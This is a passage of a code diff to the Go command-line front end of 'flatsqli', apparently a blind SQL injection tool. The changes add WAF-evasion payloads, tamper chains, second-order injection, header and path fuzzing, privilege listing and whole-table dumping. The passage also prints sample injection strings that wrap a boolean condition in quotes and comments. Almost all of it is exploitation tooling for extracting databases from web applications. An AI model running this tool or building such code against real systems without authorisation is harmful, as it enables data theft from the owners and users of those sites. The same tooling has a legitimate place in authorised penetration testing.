+  -keep-content-length           Send the request file's Content-Length as is (the body is cut to it)
+                                 instead of recomputing it after the marker is replaced
+  -self-check <n>                Re-verify every nth dumped char with an equality probe, marking
+                                 chars that stay inconsistent as uncertain (default: 8, 0=off)
+  -strict-fingerprint            Also compare which words appear, for TRUE/FALSE pages with the same
+                                 word count (may break on pages that reflect the payload)
+  -invert                        Swap TRUE/FALSE responses, for contexts where TRUE breaks the query
+  -waf-bypass                    Retry blocked probes with obfuscated payloads (comments, case, whitespace)
+  -second-order <file>           Second-order: send this request after each injection and
+                                 fingerprint its response instead (may contain the marker too)
+  -baseline-request <file>       Known-FALSE request (no marker) sent twice before calibrating.
+                                 Spans that differ (tokens, timestamps) are ignored in fingerprints
 
 %s
 Examples:
   flatsqli exploit -rf req.txt -fid -o output.md
   flatsqli exploit -rf req.txt -dt USERS -lr 10 -o dump.md
   flatsqli exploit -rf req.txt -q "SELECT user()" -db mysql
+  cat req.txt | flatsqli exploit -rf - -fid
+  flatsqli exploit -rf req.txt -interactive
+  flatsqli exploit -u 'https://host/login' -data "user=admin'+AND+(<PAYLOAD>)--+-&pass=x" -fid
+  flatsqli exploit -rf update-profile.txt -second-order view-profile.txt -fid
 
 `, generalOptionsHelp)
 	}
 
 	exploitCmd.Parse(os.Args[2:])
+	ui.SetQuiet(config.Quiet)
+	ui.SetNoColor(config.NoColor)
+	ui.SetStream(config.Stream)
 
-	if config.RequestFile == "" {
-		ui.Error("Request file is required. Use -rf <file>")
+	if config.RequestFile == "" && config.URL == "" {
+		ui.Error("A request is required. Use -rf <file> or -u <url>")
 		exploitCmd.Usage()
 		os.Exit(1)
 	}
+	if config.RequestFile != "" && config.URL != "" {
+		ui.Error("-rf and -u cannot be used together")
+		os.Exit(1)
+	}
+	if (config.Data != "" || config.Method != "") && config.URL == "" {
+		ui.Error("-data and -method require -u")
+		os.Exit(1)
+	}
+	if config.MatchHeaderValue != "" && config.MatchHeader == "" {
+		ui.Error("-match-header-value requires -match-header")
+		os.Exit(1)
+	}
+	if config.DumpTable != "" && len(splitList(config.DumpTable)) == 0 {
+		ui.Error("-dt needs at least one table name")
+		os.Exit(1)
+	}
+	if config.Columns != "" && len(splitList(config.DumpTable)) > 1 {
+		ui.Error("-columns can only be used with a single -dt table")
+		os.Exit(1)
+	}
+
+	if config.Interactive && config.RequestFile == "-" {
+		ui.Error("-interactive reads commands from stdin, it cannot be used with -rf -")
+		os.Exit(1)
+	}
 
 	runExploit(config)
 }
@@ -208,6 +744,8 @@ func runDetectMode() {
 	var config DetectConfig
 
 	// Detect-specific flags
+	detectCmd.StringVar(&config.URL, "u", "", "")
+	detectCmd.StringVar(&config.URL, "url", "", "Single URL to scan")
 	detectCmd.StringVar(&config.URLsFile, "uf", "", "")
 	detectCmd.StringVar(&config.URLsFile, "urls-file", "", "File containing URLs with parameters")
 	detectCmd.StringVar(&config.RequestsDirectory, "rd", "", "")
@@ -216,26 +754,55 @@ func runDetectMode() {
 	// Shared flags
 	detectCmd.BoolVar(&config.Verbose, "v", false, "")
 	detectCmd.BoolVar(&config.Verbose, "verbose", false, "Enable verbose output")
-	detectCmd.StringVar(&config.Proxy, "proxy", "", "Proxy URL")
+	detectCmd.BoolVar(&config.Quiet, "quiet", false, "Only print errors and results")
+	detectCmd.BoolVar(&config.NoColor, "no-color", false, "Disable colored output")
 	detectCmd.StringVar(&config.OutputFile, "o", "", "")
 	detectCmd.StringVar(&config.OutputFile, "output", "", "Output file path")
-	detectCmd.IntVar(&config.Timeout, "timeout", 10, "Request timeout in seconds")
-	detectCmd.BoolVar(&config.UseHTTP, "ph", false, "")
-	detectCmd.BoolVar(&config.UseHTTP, "plain-http", false, "Use plain HTTP instead of HTTPS")
-	detectCmd.Var(&config.Headers, "H", "Custom header (can be used multiple times)")
-	detectCmd.Var(&config.Headers, "header", "Custom header (can be used multiple times)")
+	detectCmd.BoolVar(&config.AppendOutput, "append", false, "")
+	detectCmd.BoolVar(&config.AppendOutput, "output-append", false, "Append to the output file instead of overwriting it")
+	detectCmd.BoolVar(&config.FuzzHeaders, "fuzz-headers", false, "Also inject into common headers and each cookie")
+	detectCmd.BoolVar(&config.PathFuzz, "path-fuzz", false, "Also inject into numeric URL path segments and the last one")
+	detectCmd.StringVar(&config.Method, "method", "", "HTTP method for -u and URLs from -uf (default: GET, or POST with -data)")
+	detectCmd.StringVar(&config.Data, "data", "", "Form body sent with -u and every URL from -uf")
+	detectCmd.BoolVar(&config.StopOnFirst, "stop-on-first", false, "Stop at the first vulnerable parameter")
+	detectCmd.BoolVar(&config.Contexts, "contexts", false, "Try every quote/comment closure context and keep the working one in the output")
+	detectCmd.BoolVar(&config.Exploit, "exploit", false, "Exploit the first confirmed finding right away (calibration and version extraction)")
+	detectCmd.StringVar(&config.IncludeParams, "include-params", "", "Only scan these parameters (comma-separated globs)")
+	detectCmd.StringVar(&config.ExcludeParams, "exclude-params", "", "Never scan these parameters (comma-separated globs)")
+	detectCmd.Var(&config.Seeds, "seed", "Value probed instead of a parameter's own, name=value (can be used multiple times)")
+	registerHTTPFlags(detectCmd, &config.HTTPOptions)
 
 	detectCmd.Usage = func() {
 		ui.Banner(version)
 		fmt.Fprintf(os.Stderr, `Usage: flatsqli detect <input> [options]
 
 Input (choose one):
+  -u, -url <url>                 Single URL with parameters
   -uf, -urls-file <file>         File containing URLs with parameters (one per line)
   -rd, -requests-directory <dir> Directory with raw request files (without markers)
 
+Detect Options:
+  -fuzz-headers                  Also inject into User-Agent, Referer, X-Forwarded-For,
+                                 X-Forwarded-Host and each cookie
+  -path-fuzz                     Also inject into URL path segments: numeric ones (/api/user/42) and
+                                 the last one (/product/shoes), reported as /api/user/<PAYLOAD>
+  -method <method>               HTTP method for -u and URLs from -uf (default: GET, POST with -data)
+  -data <body>                   Form body sent with -u and every URL from -uf (e.g. "a=1&b=2")
+                                 Lines may also set their own: POST https://host/path a=1&q=2
+  -stop-on-first                 Stop at the first vulnerable parameter
+  -contexts                      Try every closure context (', ", numeric x none, -- -, #) and
+                                 write the working one around the marker, e.g. id=1'+AND+(<PAYLOAD>)--+-
+  -exploit                       Stop at the first confirmed finding and exploit it right away:
+                                 calibrate and extract the database version, as exploit would
+  -include-params <p1,p2,...>    Only scan matching parameters (globs, e.g. 'id,user*')
+  -exclude-params <p1,p2,...>    Skip matching parameters (globs, e.g. 'csrf*,utm_*')
+  -seed <name=value>             Build the probes around this value instead of the parameter's own,
+                                 e.g. -seed id=42 when it is empty or rejected before the query
+                                 (JSON parameters also match by path, repeatable)
+
 %s
 Output Format:
-  When using -uf, vulnerable URLs are saved in a code block:
+  When using -u or -uf, vulnerable URLs are saved in a code block:
     `+"```"+`
     https://example.com/xpto?a=1&q=<PAYLOAD>&c=...
     `+"```"+`
@@ -247,35 +814,87 @@ Output Format:
     `+"```"+`
 
 Examples:
+  flatsqli detect -u 'https://example.com/item?id=1'
   flatsqli detect -uf urls.txt -o output.md
   flatsqli detect -rd requests/ -o output.md -v
+  flatsqli detect -rd requests/ -exclude-params 'csrf*,utm_*'
+  flatsqli detect -uf urls.txt -exploit
 
 `, generalOptionsHelp)
 	}
 
 	detectCmd.Parse(os.Args[2:])
+	ui.SetQuiet(config.Quiet)
+	ui.SetNoColor(config.NoColor)
 
-	if config.URLsFile == "" && config.RequestsDirectory == "" {
-		ui.Error("Input is required. Use -uf <file> or -rd <directory>")
+	inputs := 0
+	for _, input := range []string{config.URL, config.URLsFile, config.RequestsDirectory} {
+		if input != "" {
+			inputs++
+		}
+	}
+	if inputs == 0 {
+		ui.Error("Input is required. Use -u <url>, -uf <file> or -rd <directory>")
 		detectCmd.Usage()
 		os.Exit(1)
 	}
+	if inputs > 1 {
+		ui.Error("Cannot combine -u, -uf and -rd. Choose one input method.")
+		os.Exit(1)
+	}
 
-	if config.URLsFile != "" && config.RequestsDirectory != "" {
-		ui.Error("Cannot use both -uf and -rd. Choose one input method.")
+	seeds, err := parseSeeds(config.Seeds)
+	if err != nil {
+		ui.Error("%v", err)
 		os.Exit(1)
 	}
+	config.seeds = seeds
+
+	// Only one finding is handed over to exploit
+	if config.Exploit {
+		config.StopOnFirst = true
+	}
 
 	runDetect(config)
 }
 
 func runExploit(config ExploitConfig) {
+	if err := config.loadHeadersFile(); err != nil {
+		ui.Error("%v", err)
+		exit(1)
+	}
+	if err := config.openLogger(); err != nil {
+		ui.Error("%v", err)
+		exit(1)
+	}
+	defer config.logger.Close()
+
 	// Parse the request file
-	ui.Info("Parsing request file: %s", config.RequestFile)
-	req, err := parser.ParseRequestFile(config.RequestFile)
+	var req *parser.ParsedRequest
+	var err error
+	switch {
+	case config.request != nil:
+		req = config.request
+	case config.URL != "":
+		method := config.Method
+		if method == "" {
+			method = "GET"
+			if config.Data != "" {
+				method = "POST"
+			}
+		}
+		ui.Info("Building request: %s %s", method, config.URL)
+		req, err = parser.RequestFromURL(config.URL, method, config.Data)
+	case config.RequestFile == "-":
+		ui.Info("Reading request from stdin")
+		req, err = parser.ParseRequestReader(os.Stdin)
+	default:
+		ui.Info("Parsing request file: %s", config.RequestFile)
+		req, err = parser.ParseRequestFile(config.RequestFile)
+	}
 	if err != nil {
 		ui.Error("Failed to parse request file: %v", err)
-		os.Exit(1)
+		exit(1)
 	}
 
 	// Check for marker
@@ -283,7 +902,7 @@ func runExploit(config ExploitConfig) {
 		ui.Error("No injection marker found in request file!")
 		ui.Info("Add a marker (<PAYLOAD>, <FUZZ>, or <INJECT>) where the boolean condition should be injected.")
 		ui.Info("Example: id='%%2B(SELECT+CASE+WHEN+(<INJECT>)+THEN+'apple'+ELSE+'banana'+END)%%2B'")
-		os.Exit(1)
+		exit(1)
 	}
 
 	// Override scheme if --http flag is set
@@ -291,36 +910,179 @@ func runExploit(config ExploitConfig) {
 		req.Scheme = "http"
 	}
 
+	charset, err := payloads.ParseCharset(config.Charset)
+	if err != nil {
+		ui.Error("%v", err)
+		exit(1)
+	}
+	config.valueCharset, err = payloads.ParseValueCharset(config.ValueCharset)
+	if err != nil {
+		ui.Error("%v", err)
+		exit(1)
+	}
+	config.valueType, err = payloads.ParseValueType(config.Type)
+	if err != nil {
+		ui.Error("%v", err)
+		exit(1)
+	}
+
+	config.OutputFormat = strings.ToLower(config.OutputFormat)
+	if config.OutputFormat != finder.OutputMarkdown && config.OutputFormat != finder.OutputCSV {
+		ui.Error("Unknown output format: %s. Supported: md, csv", config.OutputFormat)
+		exit(1)
+	}
+
+	if config.TemplateFile != "" {
+		if config.OutputFormat == finder.OutputCSV {
+			ui.Error("-template cannot be combined with -output-format csv")
+			exit(1)
+		}
+		config.template, err = finder.LoadTemplate(config.TemplateFile)
+		if err != nil {
+			ui.Error("%v", err)
+			exit(1)
+		}
+	}
+
+	req.SingleMarker = config.SingleMarker
+	if err := parser.ValidateEncoding(config.Encode); err != nil {
+		ui.Error("%v", err)
+		exit(1)
+	}
+	req.Encoding = config.Encode
+	if config.Encode != "" {
+		ui.Verbose(config.Verbose, "Encoding payloads with %s", config.Encode)
+	}
+
 	ui.Verbose(config.Verbose, "Target: %s://%s%s", req.Scheme, req.Host, req.Path)
 	ui.Verbose(config.Verbose, "Marker found at position %d", req.MarkerPosition)
+	if count := req.MarkerCount(); count > 1 && !req.SingleMarker {
+		ui.Verbose(config.Verbose, "Marker appears %d times, all occurrences get the same payload", count)
+	}
 
 	// Create requester
-	httpRequester, err := requester.New(req, config.Timeout, config.Proxy, config.Verbose)
+	httpRequester, err := newRequester(req, config.HTTPOptions, config.Verbose)
 	if err != nil {
 		ui.Error("Failed to create requester: %v", err)
-		os.Exit(1)
+		exit(1)
+	}
+	defer func() { ui.Info("%s", httpRequester.Stats()) }()
+
+	if config.ObserveFile != "" {
+		observe, err := parser.ParseRequestFile(config.ObserveFile)
+		if err != nil {
+			ui.Error("Failed to parse second-order request file: %v", err)
+			exit(1)
+		}
+		if config.UseHTTP {
+			observe.Scheme = "http"
+		}
+		observe.SingleMarker = config.SingleMarker
+		observe.Encoding = config.Encode
+		httpRequester.SetObserveRequest(observe)
+		ui.Verbose(config.Verbose, "Second-order: observing %s://%s%s", observe.Scheme, observe.Host, observe.Path)
 	}
 
 	// Set match string if provided
+	httpRequester.SetTimingMode(config.Timing)
+	httpRequester.SetAffixes(config.Prefix, config.Suffix)
+	httpRequester.SetDataValue(config.DataValue)
+	if config.Tamper != "" {
+		chain, err := payloads.ParseTampers(config.Tamper)
+		if err != nil {
+			ui.Error("-tamper: %v", err)
+			exit(1)
+		}
+		httpRequester.SetTampers(chain)
+		ui.Verbose(config.Verbose, "Tampering payloads with %s", config.Tamper)
+	}
+	if len(config.MarkerValues) > 0 {
+		values, err := parseMarkerValues(config.MarkerValues, req.NamedMarkers())
+		if err != nil {
+			ui.Error("%v", err)
+			exit(1)
+		}
+		httpRequester.SetMarkerValues(values)
+	}
+	httpRequester.SetStrictFingerprint(config.StrictFingerprint)
+	httpRequester.SetKeepContentLength(config.KeepLength)
+
 	if config.MatchString != "" {
 		httpRequester.SetMatchString(config.MatchString)
 		ui.Verbose(config.Verbose, "Using match string: %s", config.MatchString)
 	}
+	if config.MatchHeader != "" {
+		httpRequester.SetMatchHeader(config.MatchHeader, config.MatchHeaderValue)
+		ui.Verbose(config.Verbose, "Comparing response header: %s", config.MatchHeader)
+	}
 
-	// Set custom headers if provided
 	if len(config.Headers) > 0 {
-		httpRequester.SetHeaders(config.Headers)
 		ui.Verbose(config.Verbose, "Using %d custom header(s)", len(config.Headers))
 	}
+	if config.FollowRedirects {
+		ui.Verbose(config.Verbose, "Following up to %d redirect(s)", config.MaxRedirects)
+	}
 
 	// Calibration phase
 	ui.Progress("Starting calibration...")
 	cal := calibrator.New(httpRequester, config.Verbose)
+	if config.BaselineFile != "" {
+		baseline, err := os.ReadFile(config.BaselineFile)
+		if err != nil {
+			ui.ProgressDone()
+			ui.Error("Failed to read baseline request: %v", err)
+			exit(1)
+		}
+		cal.SetBaseline(string(baseline))
+	}
+	if config.DataType != "" {
+		dataType, err := payloads.ParseDataType(config.DataType)
+		if err != nil {
+			ui.ProgressDone()
+			ui.Error("%v", err)
+			exit(1)
+		}
+		if dataType.UsesOR() {
+			ui.ProgressDone()
+			ui.Warning("-data-type %s selects rows with OR: in an UPDATE or DELETE, every TRUE probe hits the whole table", dataType)
+		}
+		cal.SetDataType(dataType)
+	}
+	compareMode, err := fingerprint.ParseCompareMode(config.CompareMode)
+	if err != nil {
+		ui.ProgressDone()
+		ui.Error("-compare-mode: %v", err)
+		exit(1)
+	}
+	cal.SetCompareMode(compareMode)
+	cal.SetDiffMode(config.DiffMode)
+	trueStatus, err := fingerprint.ParseStatusRanges(config.TrueStatus)
+	if err != nil {
+		ui.ProgressDone()
+		ui.Error("-true-status: %v", err)
+		exit(1)
+	}
+	falseStatus, err := fingerprint.ParseStatusRanges(config.FalseStatus)
+	if err != nil {
+		ui.ProgressDone()
+		ui.Error("-false-status: %v", err)
+		exit(1)
+	}
 	result, err := cal.Calibrate()
 	if err != nil {
 		ui.ProgressDone()
 		ui.Error("Calibration failed: %v", err)
-		os.Exit(1)
+		if hint := requester.Hint(err); hint != "" {
+			ui.Info("Hint: %s", hint)
+		}
+		exit(1)
+	}
+
+	if len(trueStatus) > 0 || len(falseStatus) > 0 {
+		result.SetStatusDecision(trueStatus, falseStatus)
+		ui.Verbose(config.Verbose, "Deciding TRUE/FALSE by status code")
+	} else if result.DiffThreshold > 0 {
+		ui.Verbose(config.Verbose, "Deciding TRUE/FALSE by content similarity (threshold %.4f)", result.DiffThreshold)
 	}
 
 	if !result.CanDifferentiate {
@@ -338,35 +1100,73 @@ func runExploit(config ExploitConfig) {
 		if config.MatchString == "" && (result.TrueFingerprint.WordCount != result.FalseFingerprint.WordCount || result.TrueFingerprint.ContentLength != result.FalseFingerprint.ContentLength) {
 			ui.Warning("Suggestion: Use the -calibration-string parameter to indicate TRUE/FALSE differentiation.")
 		}
-		os.Exit(1)
+		exit(1)
+	}
+
+	if config.Invert {
+		result.Invert()
+		ui.Verbose(config.Verbose, "Inverted TRUE/FALSE fingerprints")
+	} else if result.ErrorMatchesTrue && !result.IsError(result.FalseFingerprint) {
+		// A syntax error looking like TRUE suggests the TRUE condition is what breaks the query
+		ui.ProgressDone()
+		ui.Warning("ERROR responses look like TRUE: the context may be inverted, consider -invert.")
+	}
+
+	if !result.Stable {
+		ui.ProgressDone()
+		ui.Warning("Unstable responses: the same TRUE payload returned different responses, results may be unreliable.")
+		if config.MatchString == "" {
+			ui.Warning("Suggestion: Use the -calibration-string parameter to match a string only present in TRUE responses.")
+		}
+	}
+
+	// ERROR responses during extraction are retried unless told to treat them as FALSE
+	if config.ErrorAsFalse {
+		result.SetErrorPolicy(calibrator.ErrorAsFalse, 0)
+	} else {
+		result.SetErrorPolicy(calibrator.ErrorRetry, config.ErrorRetry)
+		result.SetUnknownRetries(config.UnknownRetry)
+	}
+	if config.WAFBypass {
+		result.SetWAFBypass(payloads.NewObfuscator())
 	}
 
 	// Overwrite the "Starting calibration..." line
-	fmt.Fprintf(os.Stderr, "\r\033[K")
+	ui.ProgressClear()
 	ui.Success("Calibration successful!")
+	ui.Info("TRUE payload:  %s", httpRequester.InjectedValue(result.TruePayload))
+	ui.Info("FALSE payload: %s", httpRequester.InjectedValue(result.FalsePayload))
 	ui.Verbose(config.Verbose, "TRUE:  [Status: %d, Words: %d]", result.TrueFingerprint.StatusCode, result.TrueFingerprint.WordCount)
 	ui.Verbose(config.Verbose, "FALSE: [Status: %d, Words: %d]", result.FalseFingerprint.StatusCode, result.FalseFingerprint.WordCount)
 	ui.Verbose(config.Verbose, "ERROR: [Status: %d, Words: %d]", result.ErrorFingerprint.StatusCode, result.ErrorFingerprint.WordCount)
 
+	// Cache handle for this host (no-op with -no-cache)
+	hostCache := storage.ForHost(req.Host, !config.NoCache)
+
 	// Database detection
 	var dbType detector.DatabaseType
 	var detectedVersion string
+	var dbVariant string
 	var dbSource string
 
 	// Check if database was specified by user
 	if config.Database != "" {
 		dbType = detector.ParseDatabaseType(config.Database)
 		if dbType == detector.Unknown {
-			ui.Error("Unknown database type: %s. Supported: mysql, mssql, oracle, postgres", config.Database)
-			os.Exit(1)
+			ui.Error("Unknown database type: %s. Supported: mysql, mssql, oracle, postgres, db2", config.Database)
+			exit(1)
+		}
+		if strings.EqualFold(config.Database, detector.VariantMariaDB) {
+			dbVariant = detector.VariantMariaDB
 		}
 		dbSource = "parameter"
 	} else {
 		// Try to load from cache
-		cached, cachedVersion := storage.LoadDatabase(req.Host)
+		cached, cachedVersion, cachedVariant := hostCache.LoadDatabase()
 		if cached != "" {
 			dbType = detector.ParseDatabaseType(cached)
 			detectedVersion = cachedVersion
+			dbVariant = cachedVariant
 			dbSource = "cache"
 		}
 	}
@@ -375,17 +1175,22 @@ func runExploit(config ExploitConfig) {
 	if dbType == detector.Unknown {
 		ui.Progress("Detecting database...")
 		det := detector.New(httpRequester, result, config.Verbose)
+		det.SetCache(hostCache)
 		dbType, detectedVersion, err = det.Detect()
+		dbVariant = det.Variant()
 		if err != nil {
 			ui.ProgressDone()
 			ui.Error("Database detection failed: %v", err)
-			os.Exit(1)
+			if errors.Is(err, detector.ErrNotDetected) {
+				ui.Info("Hint: set the database type with -db if it is known")
+			}
+			exit(1)
 		}
 		ui.ProgressDone()
 		dbSource = "detected"
 
 		// Save to cache
-		if err := storage.SaveDatabase(req.Host, dbType.String(), detectedVersion); err != nil {
+		if err := hostCache.SaveDatabase(dbType.String(), detectedVersion, dbVariant); err != nil {
 			ui.Verbose(config.Verbose, "Warning: Could not save database cache: %v", err)
 		}
 	}
@@ -397,19 +1202,115 @@ func runExploit(config ExploitConfig) {
 		ui.Info("Database: %s (%s)", dbType.String(), dbSource)
 	}
 
+	if dbVariant != "" {
+		ui.Info("Variant: %s", dbVariant)
+	}
+
+	// Version components pick version-appropriate query syntax
+	if detectedVersion != "" {
+		major, minor, patch, edition := detector.ParseVersion(dbType, detectedVersion)
+		if major > 0 {
+			ui.Verbose(config.Verbose, "Parsed version: %d.%d.%d %s", major, minor, patch, edition)
+			config.versionMajor, config.versionMinor = major, minor
+			info := storage.VersionInfo{Major: major, Minor: minor, Patch: patch, Edition: edition}
+			if err := hostCache.SaveVersionInfo(info); err != nil {
+				ui.Verbose(config.Verbose, "Warning: Could not save version info: %v", err)
+			}
+		}
+	}
+
 	// Print target info for reports/screenshots
 	ui.Info("Target: %s %s://%s%s", req.Method, req.Scheme, req.Host, req.Path)
+	if gen := payloads.GetPayloadsForDatabase(dbType.ToPayloadType()); gen != nil {
+		// Manual extraction: replace <DATA> with a query, then binary search the char code
+		ui.Info("Payload template: %s", httpRequester.InjectedValue(gen.GetCharPayload("<DATA>", 1, 64)))
+		if charset.UsesCodePoints() && !payloads.ReadsCodePoints(gen) {
+			ui.Warning("%s has no code point function, -charset %s reads bytes and decodes them as UTF-8", dbType, charset)
+		}
+	}
+	report := finder.Report{
+		Target:   fmt.Sprintf("%s %s://%s%s", req.Method, req.Scheme, req.Host, req.Path),
+		Database: dbType.String(),
+		Version:  detectedVersion,
+	}
+
+	if config.Interactive {
+		ext := newExtractor(config, httpRequester, result, dbType, dbVariant, charset)
+		f := newFinder(config, httpRequester, result, dbType, req.Host, charset, report)
+		runInteractive(ext, f)
+		return
+	}
+
+	if config.ListDatabases {
+		ext := newExtractor(config, httpRequester, result, dbType, dbVariant, charset)
+		ui.Info("Listing databases...")
+		names, err := ext.ListDatabases()
+		ui.ProgressDone()
+		for _, name := range names {
+			if ui.Quiet() || ui.Stream() {
+				ui.Data("%s", name)
+			}
+			ui.Success("  - %s", name)
+		}
+		if err != nil {
+			ui.Error("Database listing failed: %v", err)
+			exit(1)
+		}
+		ui.Success("Done!")
+		return
+	}
+
+	if config.Privileges {
+		ext := newExtractor(config, httpRequester, result, dbType, dbVariant, charset)
+		ui.Info("Listing privileges of the current user...")
+		privileges, err := ext.GetPrivileges()
+		ui.ProgressDone()
+		for _, privilege := range privileges {
+			if ui.Quiet() || ui.Stream() {
+				ui.Data("%s", privilege)
+			}
+			ui.Success("  - %s", privilege)
+		}
+		if err != nil {
+			ui.Error("Privilege listing failed: %v", err)
+			exit(1)
+		}
+		ui.Success("Done!")
+		return
+	}
+
+	if config.VerifyCache {
+		if config.NoCache {
+			ui.Error("-verify-cache cannot be used with -no-cache")
+			exit(1)
+		}
+		f := newFinder(config, httpRequester, result, dbType, req.Host, charset, report)
+
+		drift, err := f.VerifyCache(config.VerifySample, config.PurgeStale)
+		if err != nil {
+			ui.Error("Cache verification failed: %v", err)
+			exit(1)
+		}
+		if len(drift) > 0 && !config.PurgeStale {
+			ui.Warning("%d cached cell(s) drifted, re-run with -purge-stale to drop the stale tables", len(drift))
+		}
+		ui.Success("Done!")
+		return
+	}
 
 	// Check if dump table mode is requested
 	if config.DumpTable != "" {
-		f := finder.New(httpRequester, result, dbType, config.Verbose, req.Host)
-		if config.MaxLen > 0 {
-			f.SetMaxLen(config.MaxLen)
-		}
+		f := newFinder(config, httpRequester, result, dbType, req.Host, charset, report)
 
-		if err := f.DumpTable(config.DumpTable, config.FindRowLimit, config.OutputFile); err != nil {
+		tables := splitList(config.DumpTable)
+		if len(tables) > 1 {
+			err = f.DumpTables(tables, config.FindRowLimit, config.OutputFile)
+		} else {
+			err = f.DumpTable(tables[0], splitList(config.Columns), config.FindRowLimit, config.OutputFile)
+		}
+		if err != nil {
 			ui.Error("Dump failed: %v", err)
-			os.Exit(1)
+			exit(1)
 		}
 		ui.Success("Done!")
 		return
@@ -427,34 +1328,32 @@ func runExploit(config ExploitConfig) {
 			}
 		}
 
-		f := finder.New(httpRequester, result, dbType, config.Verbose, req.Host)
-		if config.MaxLen > 0 {
-			f.SetMaxLen(config.MaxLen)
-		}
+		f := newFinder(config, httpRequester, result, dbType, req.Host, charset, report)
 
-		if err := f.Run(pattern, tableLimit, config.FindRowLimit, true, config.OutputFile); err != nil {
+		if err := f.Run(pattern, tableLimit, config.FindRowLimit, !config.NoCache, config.OutputFile); err != nil {
 			ui.Error("Finder failed: %v", err)
-			os.Exit(1)
+			exit(1)
 		}
 		ui.Success("Done!")
 		return
 	}
 
 	// Data extraction
-	ext := extractor.New(httpRequester, result, dbType, config.Verbose)
-	if config.MaxLen > 0 {
-		ext.SetMaxLen(config.MaxLen)
-	} else if config.MaxLen == 0 {
-		ext.SetMaxLen(0) // No limit
-	}
+	ext := newExtractor(config, httpRequester, result, dbType, dbVariant, charset)
 
 	// If custom query specified, extract it
 	if config.Query != "" {
 		ui.Info("Extracting custom query: %s", config.Query)
 		data, err := ext.ExtractQuery(config.Query)
 		if err != nil {
+			if errors.Is(err, requester.ErrBudgetExhausted) && data != "" {
+				ui.Warning("Partial result: %s", data)
+			}
 			ui.Error("Extraction failed: %v", err)
-			os.Exit(1)
+			exit(1)
+		}
+		if ui.Quiet() || ui.Stream() {
+			ui.Data("%s", data)
 		}
 		ui.Success("Result: %s", data)
 	} else {
@@ -462,22 +1361,88 @@ func runExploit(config ExploitConfig) {
 		if detectedVersion == "" {
 			ui.Info("Extracting database version...")
 			detectedVersion, err = ext.ExtractVersion()
-			if err != nil {
+			switch {
+			case errors.Is(err, extractor.ErrNoData) || errors.Is(err, extractor.ErrUnsupportedDatabase):
+				// Not an injection failure, the version queries just don't fit
+				ui.Warning("Version extraction failed: %v (check -db, or extract a query with -q)", err)
+			case err != nil:
 				ui.Error("Version extraction failed: %v", err)
-				os.Exit(1)
+				exit(1)
+			default:
+				ui.Success("Version: %s", detectedVersion)
 			}
-			ui.Success("Version: %s", detectedVersion)
+		}
+		if (ui.Quiet() || ui.Stream()) && detectedVersion != "" {
+			ui.Data("%s", detectedVersion)
 		}
 	}
 
 	ui.Success("Done!")
 }
 
+// newFinder creates a finder configured with the exploit options
+func newFinder(config ExploitConfig, req *requester.Requester, result *calibrator.CalibrationResult, dbType detector.DatabaseType, host string, charset payloads.Charset, report finder.Report) *finder.Finder {
+	f := finder.New(req, result, dbType, config.Verbose, host, !config.NoCache)
+	if config.MaxLen > 0 {
+		f.SetMaxLen(config.MaxLen)
+	}
+	f.SetMinLen(config.MinLen)
+	f.SetCharset(charset)
+	f.SetValueCharset(config.valueCharset)
+	f.SetValueType(config.valueType)
+	f.SetHex(config.Hex)
+	f.SetOutputFormat(config.OutputFormat)
+	f.SetConcatRows(config.ConcatRows)
+	f.SetAppendOutput(config.AppendOutput)
+	f.SetExactCount(config.ExactCount)
+	f.SetMaxRowsTotal(config.MaxRowsTotal)
+	f.SetSchema(config.Schema)
+	f.SetVersion(config.versionMajor, config.versionMinor)
+	f.SetMaxColumns(config.MaxColumns)
+	f.SetMaxTableScan(config.MaxTableScan)
+	if config.BlobColumns != "" {
+		f.SetBlobColumns(splitList(config.BlobColumns), config.BlobDir)
+	}
+	f.SetSelfCheck(config.SelfCheck)
+	if config.template != nil {
+		f.SetTemplate(config.template, report)
+	}
+	return f
+}
+
+// newExtractor creates an extractor configured with the exploit options
+func newExtractor(config ExploitConfig, req *requester.Requester, result *calibrator.CalibrationResult, dbType detector.DatabaseType, variant string, charset payloads.Charset) *extractor.Extractor {
+	ext := extractor.New(req, result, dbType, config.Verbose)
+	if config.MaxLen > 0 {
+		ext.SetMaxLen(config.MaxLen)
+	} else if config.MaxLen == 0 {
+		ext.SetMaxLen(0) // No limit
+	}
+	ext.SetMinLen(config.MinLen)
+	ext.SetCharset(charset)
+	ext.SetValueCharset(config.valueCharset)
+	ext.SetValueType(config.valueType)
+	ext.SetHex(config.Hex)
+	ext.SetVariant(variant)
+	ext.SetVersion(config.versionMajor, config.versionMinor)
+	return ext
+}
+
 func runDetect(config DetectConfig) {
-	isURLInput := config.URLsFile != ""
+	isURLInput := config.URL != "" || config.URLsFile != ""
+
+	if err := config.loadHeadersFile(); err != nil {
+		ui.Error("%v", err)
+		os.Exit(1)
+	}
+	if err := config.openLogger(); err != nil {
+		ui.Error("%v", err)
+		os.Exit(1)
+	}
+	defer config.logger.Close()
 
 	// Create output writer
-	writer, err := output.New(config.OutputFile, isURLInput)
+	writer, err := output.New(config.OutputFile, isURLInput, config.AppendOutput)
 	if err != nil {
 		ui.Error("Failed to create output file: %v", err)
 		os.Exit(1)
@@ -497,67 +1462,80 @@ func runDetect(config DetectConfig) {
 }
 
 func runDetectURLs(config DetectConfig, writer *output.Writer) {
-	ui.Info("Loading URLs from: %s", config.URLsFile)
+	urls := []string{config.URL}
+	if config.URLsFile != "" {
+		ui.Info("Loading URLs from: %s", config.URLsFile)
 
-	urls, err := parser.ParseURLFile(config.URLsFile)
-	if err != nil {
-		ui.Error("Failed to parse URL file: %v", err)
-		os.Exit(1)
-	}
+		var err error
+		urls, err = parser.ParseURLFile(config.URLsFile)
+		if err != nil {
+			ui.Error("Failed to parse URL file: %v", err)
+			os.Exit(1)
+		}
 
-	ui.Info("Loaded %d URLs", len(urls))
+		ui.Info("Loaded %d URLs", len(urls))
+	}
 
 	vulnCount := 0
 	var vulnList []string
-	for i, rawURL := range urls {
+	var stats requester.Stats
+	var exploitReq *parser.ParsedRequest // first finding, for -exploit
+	var exploitResult *scanner.ScanResult
+	for i, line := range urls {
 		ui.Progress("Scanning URL %d/%d...", i+1, len(urls))
 
-		// Convert URL to request
-		req, err := parser.URLToRequest(rawURL)
+		rawURL, req, results, urlStats, err := scanURL(config, line)
 		if err != nil {
-			ui.Verbose(config.Verbose, "Skipping invalid URL: %s (%v)", rawURL, err)
-			continue
-		}
-
-		// Override scheme if --http flag is set
-		if config.UseHTTP {
-			req.Scheme = "http"
-		}
-
-		// Check if URL has parameters
-		if !strings.Contains(req.Path, "?") {
-			ui.Verbose(config.Verbose, "Skipping URL without parameters: %s", rawURL)
-			continue
-		}
-
